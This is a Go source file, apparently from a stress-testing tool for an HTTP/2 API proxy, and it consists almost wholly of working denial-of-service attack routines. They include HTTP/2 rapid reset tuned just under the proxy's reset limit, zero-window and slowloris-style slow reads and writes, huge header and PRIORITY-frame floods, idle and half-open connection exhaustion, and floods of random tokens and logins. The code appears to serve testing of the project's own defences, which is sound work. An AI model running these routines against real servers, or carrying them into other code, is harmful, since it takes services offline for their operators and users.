package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// attackStreams is what servers allow on one connection.
	attackStreams = 100
	// resetsBelow is just below the number of resets for which the proxy closes a connection.
	resetsBelow = 490
	// idleEach is how many idle connections stand for one of an attacker's.
	idleEach = 500
)

// askAgain floods with requests for a path. Next, if not nil, makes the path.
func askAgain(path string, next func(a *attacker, i int) string) func(ctx context.Context, a *attacker) {
	return func(ctx context.Context, a *attacker) {
		a.each(ctx, a.Connections, func(worker int) error {
			f, err := a.open(ctx)
			if err != nil {
				return err
			}
			defer f.conn.Close() //nolint:errcheck // it is given up
			i := 0
			return f.flood(ctx, func() error {
				asked := path
				if next != nil {
					asked = next(a, worker)
				}
				i++
				_, err := f.request("GET", asked, nil)
				return err
			})
		})
	}
}

func questions(ctx context.Context, a *attacker) {
	askAgain("", func(a *attacker, worker int) string {
		return fmt.Sprintf("%s/%s-%d-%d", configMaps, a.Salt, worker, a.requests.Load())
	})(ctx, a)
}

// windowOfNothing lets no byte of a body come.
func windowOfNothing() http2.Setting {
	return http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}
}

func unread(ctx context.Context, a *attacker) {
	a.each(ctx, a.Connections, func(int) error {
		f, err := a.open(ctx, windowOfNothing())
		if err != nil {
			return err
		}
		defer f.conn.Close() //nolint:errcheck // it is given up
		return f.flood(ctx, func() error {
			_, err := f.request("GET", "/openapi/v2", nil)
			return err
		})
	})
}

func reset(ctx context.Context, a *attacker) {
	a.each(ctx, a.Connections, func(worker int) error {
		f, err := a.open(ctx)
		if err != nil {
			return err
		}
		defer f.conn.Close() //nolint:errcheck // another one is opened
		for i := 0; i < resetsBelow && ctx.Err() == nil; i++ {
			stream, err := f.request("GET", fmt.Sprintf("%s/%s-%d-%d", configMaps, a.Salt, worker, a.requests.Load()), nil)
			if err != nil {
				return err
			}
			f.write(func() error { return f.framer.WriteRSTStream(stream, http2.ErrCodeCancel) })
		}
		return nil
	})
}

func random() string {
	var some [16]byte
	_, _ = rand.Read(some[:])
	return hex.EncodeToString(some[:])
}

func tokens(ctx context.Context, a *attacker) {
	a.each(ctx, a.Connections, func(int) error {
		f, err := a.open(ctx)
		if err != nil {
			return err
		}
		defer f.conn.Close() //nolint:errcheck // it is given up
		return f.flood(ctx, func() error {
			_, err := f.request("GET", configMaps, nil, field{"authorization", "Bearer " + random()})
			return err
		})
	})
}

func logins(ctx context.Context, a *attacker) {
	a.each(ctx, a.Connections, func(int) error {
		f, err := a.open(ctx)
		if err != nil {
			return err
		}
		defer f.conn.Close() //nolint:errcheck // it is given up
		return f.flood(ctx, func() error {
			_, err := f.request(
				"POST",
				credentialRequests,
				[]byte(loginBody(passwordAuthenticator, "pinny:"+random())),
				field{"content-type", "application/json"},
			)
			return err
		})
	})
}

func manyHeaders(ctx context.Context, a *attacker) {
	fields := make([]field, 25_000) // one byte each after the first, and 33 where they are kept
	for i := range fields {
		fields[i] = field{"a", "b"}
	}
	a.each(ctx, a.Connections, func(int) error {
		f, err := a.open(ctx, windowOfNothing())
		if err != nil {
			return err
		}
		defer f.conn.Close() //nolint:errcheck // it is given up
		return f.flood(ctx, func() error {
			_, err := f.request("GET", "/", nil, fields...)
			return err
		})
	})
}

func idleConnections(ctx context.Context, a *attacker) {
	slots := make(chan struct{}, a.Connections*idleEach)
	a.each(ctx, a.Connections, func(int) error {
		select {
		case slots <- struct{}{}:
		case <-ctx.Done():
			return nil
		}
		conn, err := a.dial(ctx, "h2")
		if err != nil {
			<-slots
			return err
		}
		go func() {
			_, _ = io.Copy(io.Discard, conn)
			a.closed.Add(1)
			_ = conn.Close()
			<-slots
		}()
		return nil
	})
}

// slow has four kinds of connections: one that sends a header byte by byte, two that send a body so, of a length and in
// chunks, and one that reads so.
func slow(ctx context.Context, a *attacker) {
	const many, pause = 50, 500 * time.Millisecond
	bytewise := func(conn net.Conn, head, rest string) error {
		a.requests.Add(1)
		if _, err := io.WriteString(conn, head); err != nil {
			return err
		}
		for i := range rest {
			if !sleep(ctx, pause) {
				return nil
			}
			if _, err := io.WriteString(conn, rest[i:i+1]); err != nil {
				a.closed.Add(1)
				return nil
			}
		}
		return nil
	}
	long := string(bytes.Repeat([]byte("a"), 1<<16))
	a.each(ctx, a.Connections*many, func(worker int) error {
		const post = "POST " + configMaps + " HTTP/1.1\r\nHost: proxy\r\nContent-Type: application/json\r\n"
		if kind := worker % 4; kind < 3 {
			conn, err := a.dial(ctx, "http/1.1")
			if err != nil {
				return err
			}
			defer conn.Close() //nolint:errcheck // it is given up
			switch kind {
			case 0:
				return bytewise(conn, "GET / HTTP/1.1\r\nHost: proxy\r\nA: ", long)
			case 1:
				return bytewise(conn, fmt.Sprintf("%sContent-Length: %d\r\n\r\n", post, len(long)), long)
			}
			return bytewise(conn, fmt.Sprintf("%sTransfer-Encoding: chunked\r\n\r\n%x\r\n", post, len(long)), long)
		}
		f, err := a.open(ctx, windowOfNothing())
		if err != nil {
			return err
		}
		defer f.conn.Close() //nolint:errcheck // it is given up
		var streams []uint32
		for range attackStreams / 5 {
			stream, err := f.request("GET", configMaps, nil)
			if err != nil {
				return err
			}
			streams = append(streams, stream)
		}
		for sleep(ctx, pause) {
			select {
			case <-f.closed:
				return nil
			default:
			}
			for _, stream := range streams {
				f.write(func() error { return f.framer.WriteWindowUpdate(stream, 1) })
			}
		}
		return nil
	})
}

const (
	// unfinishedEach is how many connections begin a header for one of an attacker's.
	unfinishedEach = 100
	// begunEach is the same for short headers. Three times as many are as many as clients without a user may have.
	begunEach = 170
	// begunSize is as much as the proxy reads of a header in any case, less the frames around it.
	begunSize = 2<<10 - 100
)

// unfinished begins a large header of short lines, or of short fields, on many connections. On some it sends frames that
// nothing follows from instead.
func unfinished(ctx context.Context, a *attacker) {
	const size = 1_000_000
	lines := []byte("GET / HTTP/1.1\r\nHost: proxy\r\n" + strings.Repeat("a:b\r\n", size/len("a:b\r\n")))
	header := beginningOfHeader(16 << 10)
	var priority bytes.Buffer
	priority.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(&priority, nil)
	for _ = framer.WriteSettings(); priority.Len() < size; { // a buffer takes everything
		_ = framer.WritePriority(1, http2.PriorityParam{Weight: 1})
	}
	a.each(ctx, a.Connections*unfinishedEach, func(worker int) error {
		switch {
		case worker < a.Connections:
			return a.begin(ctx, "h2", priority.Bytes())
		case worker%2 == 0:
			return a.begin(ctx, "h2", header)
		}
		return a.begin(ctx, "http/1.1", lines)
	})
}

// begun begins a short header of short fields on as many connections as there may be.
func begun(ctx context.Context, a *attacker) {
	header := beginningOfHeader(begunSize)
	a.each(ctx, a.Connections*begunEach, func(int) error { return a.begin(ctx, "h2", header) })
}

// beginningOfHeader is what an HTTP/2 client sends first, and size bytes of a header, of one byte for a field.
func beginningOfHeader(size int) []byte {
	var header, fields bytes.Buffer
	header.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(&header, nil)
	_ = framer.WriteSettings() // a buffer takes everything
	for encoder := hpack.NewEncoder(&fields); fields.Len() < size; {
		_ = encoder.WriteField(hpack.HeaderField{Name: "a", Value: "b"})
	}
	_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields.Bytes(), EndStream: true})
	return header.Bytes()
}

// begin sends what has no end, and waits for the end of the connection.
func (a *attacker) begin(ctx context.Context, protocol string, content []byte) error {
	conn, err := a.dial(ctx, protocol)
	if err != nil {
		return err
	}
	defer conn.Close() //nolint:errcheck // it is given up
	a.requests.Add(1)
	if _, err := conn.Write(content); err != nil {
		a.closed.Add(1)
		return nil
	}
	_, _ = io.Copy(io.Discard, conn)
	a.closed.Add(1)
	return nil
}

// sleep returns false when ctx ends before.
func sleep(ctx context.Context, d time.Duration) bool {
	select {
	case <-ctx.Done():
		return false
	case <-time.After(d):
		return true
	}
}

// compute keeps processors busy and asks for nothing.
func compute(processors int) func(ctx context.Context, _ *attacker) {
	return func(ctx context.Context, _ *attacker) {
		var group sync.WaitGroup
		for range processors {
			group.Go(func() {
				for sum := [sha256.Size]byte{}; ctx.Err() == nil; {
					sum = sha256.Sum256(sum[:])
				}
			})
		}
		group.Wait()
	}
}
